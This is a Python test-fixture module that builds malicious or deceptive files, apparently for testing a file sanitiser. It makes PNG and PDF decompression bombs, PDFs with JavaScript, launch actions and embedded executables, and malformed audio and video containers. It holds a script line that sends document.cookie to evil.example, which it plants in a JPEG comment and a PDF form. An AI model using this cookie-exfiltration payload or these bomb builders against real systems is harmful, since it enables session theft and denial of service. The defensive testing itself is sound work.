"""Files that mean harm, or are not what they say, made here."""

import io
import struct
import zipfile
import zlib

from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image

from tests.files import samples
from tests.files.samples import CANARY

SCRIPT = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script>"
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
EXE = b"MZ\x90\0" + bytes(300)
# The test signature every scanner knows, in two halves: whole, it would get this file removed.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def zipped(name: str = "a.txt", content: bytes = b"x") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, content)
    return out.getvalue()


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_of(width: int, height: int, body: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


def folded(size: int) -> bytes:
    """Return ``size`` zeros, folded a thousand to one: one folded megabyte, again and again."""
    packer, sum_, block = zlib.compressobj(9, wbits=-15), 1, bytes(1 << 20)
    once = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(size >> 20):
        sum_ = zlib.adler32(block, sum_)
    end = packer.flush() + struct.pack(">I", sum_)
    return b"\x78\xda" + once * (size >> 20) + end


def png_that_unfolds() -> bytes:
    """Return a modest head in front of a gigabyte."""
    return png_of(6000, 6000, folded(1 << 30))


def png_with_remark_that_unfolds() -> bytes:
    whole = samples.png()
    bomb = chunk(b"zTXt", b"Comment\0\0" + folded(1 << 29))
    return whole[:33] + bomb + whole[33:]


def jpeg_of_size(width: int, height: int) -> bytes:
    whole = samples.written(samples.picture(), "JPEG")
    at = whole.index(b"\xff\xc0") + 5
    return whole[:at] + struct.pack(">HH", height, width) + whole[at + 4 :]


def two_in_one(first: bytes, second: bytes) -> bytes:
    return first + second


def comment_with_script() -> bytes:
    return samples.written(samples.picture(), "JPEG", comment=SCRIPT + CANARY)


def picture(kind: str) -> bytes:
    return samples.written(Image.new("RGB", (20, 20)), kind)


def large_picture() -> bytes:
    """Return a small file of almost as many pixels as are taken."""
    return samples.written(Image.new("RGBA", (6300, 6300), (10, 20, 30, 40)), "PNG")


def heic() -> bytes:
    return samples.box(b"ftyp", b"heic", bytes(4), b"mif1heic") + samples.box(b"meta", CANARY)


# --- PDFs ---------------------------------------------------------------------------------


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=f"app.alert('{CANARY.decode()}')")


def pdf_that_runs() -> bytes:
    made = samples.document()
    made.Root.OpenAction = _script()
    made.Root.AA = Dictionary(WC=_script())
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=["go", _script()]))
    made.pages[0].AA = Dictionary(O=_script())
    return samples.saved(made)


def pdf_that_launches() -> bytes:
    made = samples.document()
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=CANARY.decode())
    return samples.saved(made)


def pdf_with_links() -> bytes:
    made = samples.document()
    act = Dictionary(S=Name.URI, URI=f"https://evil.example/{CANARY.decode()}")
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 300, 200], A=act)
    made.pages[0].Annots = Array([made.make_indirect(link)])
    return samples.saved(made)


def pdf_with_file() -> bytes:
    made = samples.document()
    made.attachments["payload.exe"] = EXE + CANARY
    return samples.saved(made, compress_streams=False)


def pdf_with_xfa() -> bytes:
    made = Pdf.open(io.BytesIO(samples.filled_form()))
    made.Root.AcroForm.XFA = made.make_stream(SCRIPT + CANARY)
    return samples.saved(made, compress_streams=False)


def pdf_that_fetches() -> bytes:
    """Return one whose picture of a page is to be taken from another file."""
    made = samples.document()
    form = made.make_stream(b"")
    form.update(
        Dictionary(
            Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9],
            Ref=Dictionary(F=CANARY.decode(), Page=0),
        )
    )  # fmt: skip
    made.pages[0].Resources = Dictionary(XObject=Dictionary(Far=form))
    made.pages[0].Contents = made.make_stream(b"/Far Do")
    return samples.saved(made)


def pdf_with_private_notes() -> bytes:
    made = samples.document()
    page = made.pages[0]
    page.PieceInfo = Dictionary(App=Dictionary(Private=CANARY.decode()))
    page.Metadata = made.make_stream(CANARY)
    page.Thumb = made.make_stream(CANARY)
    return samples.saved(made, compress_streams=False)


def pdf_with_nobodys_object() -> bytes:
    made = samples.document()
    made.make_indirect(Dictionary(Left=CANARY.decode()))
    made.Root.Nobody = made.make_stream(CANARY)
    return samples.saved(made, compress_streams=False)


def pdf_that_unfolds() -> bytes:
    made = samples.document()
    stream = made.make_stream(b"")
    stream.write(folded(1 << 29), filter=Name.FlateDecode)
    made.pages[0].Contents = stream
    return samples.saved(made, compress_streams=False)


def pdf_whose_catalogue_unfolds() -> bytes:
    """Return one whose first page can only be found by unfolding two gigabytes."""
    bomb = folded(2 << 30)
    head = b"%PDF-1.5\n"
    held = (
        b"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(bomb)).encode()
        + b">>\nstream\n"
        + bomb
        + b"\nendstream\nendobj\n"
    )
    at = len(head) + len(held)
    rows = [(0, 0, 0), (1, len(head), 0), (2, 1, 0), (1, at, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    return (
        head
        + held
        + b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 2 0 R/Length 24>>\nstream\n"
        + table
        + f"\nendstream\nendobj\nstartxref\n{at}\n%%EOF\n".encode()
    )


def pdf_that_unfolds_twice() -> bytes:
    made = samples.document()
    stream = made.make_stream(b"")
    stream.write(zlib.compress(folded(1 << 28)), filter=Array([Name.FlateDecode] * 2))
    made.pages[0].Contents = stream
    return samples.saved(made, compress_streams=False, stream_decode_level=0)


def pdf_with_endless_picture() -> bytes:
    made = samples.document()
    stream = made.make_stream(b"\0")
    stream.update(Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=99999, Height=99999))
    made.pages[0].Resources = Dictionary(XObject=Dictionary(Big=stream))
    return samples.saved(made)


def pdf_of_many_pages() -> bytes:
    return samples.saved(samples.document(pages=501))


def pdf_that_is_its_own_child() -> bytes:
    made = samples.document()
    pages = made.Root.Pages
    pages.Kids = Array([pages, pages])
    return samples.saved(made)


def cut(content: bytes, share: float = 0.5) -> bytes:
    return content[: int(len(content) * share)]


# --- Recordings ---------------------------------------------------------------------------


def film() -> bytes:
    return samples.m4a(brand=b"isom", tracks=samples.track() + samples.track(handler=b"vide"))


def nested(depth: int = 4000) -> bytes:
    inner = samples.box(b"free")
    for _ in range(depth):
        inner = samples.box(b"moof", inner)
    return samples.m4a(before=inner)


def m4a_from_elsewhere() -> bytes:
    far = samples.box(b"url ", bytes(4), b"https://evil.example/" + CANARY + b"\0")
    return samples.m4a(tracks=samples.track(reference=far))


def m4a_with_lying_length() -> bytes:
    whole = bytearray(samples.m4a())
    at = whole.index(b"moov") - 4
    whole[at : at + 4] = struct.pack(">I", 0x7FFFFFFF)
    return bytes(whole)


def ogg_with_film() -> bytes:
    theora = samples.ogg_page(0, b"\x80theora" + bytes(40), flags=2, stream=9)
    whole = samples.opus()
    return whole[:47] + theora + whole[47:]


def ogg_with_lying_remarks() -> bytes:
    return samples.opus(said=b"OpusTags")


def two_oggs() -> bytes:
    return samples.opus() + samples.opus()


def flipped(content: bytes, at: int = -10) -> bytes:
    changed = bytearray(content)
    changed[at] ^= 0x55
    return bytes(changed)


def wav_with_lying_length() -> bytes:
    whole = bytearray(samples.wav())
    whole[16:20] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(whole)
